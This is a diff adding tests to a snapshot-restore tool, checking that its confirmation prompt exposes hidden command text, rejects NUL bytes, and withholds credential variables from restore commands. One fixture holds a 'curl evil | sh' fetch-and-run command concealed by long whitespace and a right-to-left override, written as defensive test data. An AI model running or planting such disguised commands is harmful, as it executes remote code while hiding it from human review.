@@ -101,6 +101,18 @@ describe("--snapshots", () => {
     expect(exitOf(figures)).toBe(0);
   });
 
+  test("ask shows the beginning of a command that hides it", async () => {
+    const plan: Planned = async (fixture) => [
+      await fixture.snapshot("db", dump, { restore_through: `curl evil | sh;${" ".repeat(6_000)}psql \u202eapp` }),
+    ];
+    await using fixture = await prepared(plan);
+    const questions: string[] = [];
+    await restored(fixture, "ask", { ask: async (question) => questions.push(question) < 0 });
+    expect(questions).toEqual([
+      `Replay snapshot "db", through: a command of 6,024 characters, where ⟪ ⟫ stands for what is hidden: sh -c 'curl evil | sh;⟪6,000 × space⟫psql ⟪U+202E⟫app'`,
+    ]);
+  });
+
   test("ask where there is no terminal is a usage error before anything is restored", async () => {
     await using fixture = await prepared(sound);
     const ask = () => Promise.reject(new Failure({ doing: "ask", why: "there is no terminal" }));
@@ -186,9 +198,38 @@ describe("a restore command", () => {
     await using fixture = await prepared(plan);
     const figures = await restored(fixture, "run");
     expect(fixture.complaints).toEqual([
-      `cannot replay the snapshot "db": 'cat > /dev/null; echo no such table >&2; exit 3' ended with status 3: no such table; fix that and restore again, or use --snapshots fetch and replay it by hand`,
+      `cannot replay the snapshot "db": sh -c 'cat > /dev/null; echo no such table >&2; exit 3' ended with status 3: no such table; fix that and restore again, or use --snapshots fetch and replay it by hand`,
     ]);
     expect(exitOf(figures)).toBe(3);
+  });
+
+  test("with a NUL in it costs its own snapshot only", async () => {
+    const plan: Planned = async (fixture) => [
+      await fixture.snapshot("bad", "bad", { restore_through: "true \0 false" }),
+      await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
+    ];
+    await using fixture = await prepared(plan);
+    expect(await restored(fixture, "run")).toMatchObject({ snapshotsReplayed: 1, errors: 1, damaged: 0 });
+    expect(fixture.complaints).toEqual([
+      'cannot restore the snapshot "bad": its restore command has a NUL in it, which no command can have; use --snapshots fetch and replay it by hand',
+    ]);
+  });
+
+  test("finds a few variables of ours, and no credentials", async () => {
+    const secrets = { AWS_SECRET_ACCESS_KEY: "secret", AWS_PROFILE: "admin", VAULT_TOKEN: "secret" };
+    Object.assign(process.env, secrets);
+    const plan: Planned = async (fixture) => [
+      await fixture.snapshot("db", dump, { restore_through: `env > '${fixture.scratch.path}/replayed'` }),
+    ];
+    try {
+      await using fixture = await prepared(plan);
+      await restored(fixture, "run");
+      const names = (await Bun.file(fixture.replayed).text()).split("\n").map((line) => line.replace(/=.*/, ""));
+      expect(names).toContain("PATH");
+      for (const name of Object.keys(secrets)) expect(names).not.toContain(name);
+    } finally {
+      for (const name of Object.keys(secrets)) delete process.env[name];
+    }
   });
 
   test("that does not read its input is no error", async () => {
